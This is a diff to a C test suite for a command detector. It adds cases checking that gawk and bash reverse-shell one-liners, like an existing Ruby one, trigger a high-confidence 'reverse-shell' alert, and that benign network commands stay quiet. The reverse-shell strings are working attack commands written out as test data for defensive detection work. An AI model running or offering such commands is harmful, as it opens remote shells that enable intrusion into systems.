@@ -214,6 +214,12 @@ TEST(shell_reverse_shells)
 	ASSERT_TRUE(fires("ruby -rsocket -e 'c=TCPSocket.new(\"1.2.3.4\",4444);"
 			  "while(cmd=c.gets);IO.popen(cmd,\"r\"){|io|c.print io.read}end'",
 			  "reverse-shell", CONF_HIGH));
+	ASSERT_TRUE(
+	    fires("gawk 'BEGIN {s = \"/inet/tcp/0/1.2.3.4/4444\"; while (42) { s |& getline c; "
+		  "while ((c |& getline) > 0) print $0 |& s; close(c) } }'",
+		  "reverse-shell", CONF_HIGH));
+	ASSERT_TRUE(
+	    fires("bash -c 'bash -i >& /dev/udp/1.2.3.4/53 0>&1'", "reverse-shell", CONF_HIGH));
 	/* a plain client connection is not a shell */
 	ASSERT_TRUE(quiet("nc -zv db.internal 5432"));
 	ASSERT_TRUE(quiet("python3 -c 'import socket; print(socket.gethostname())'"));
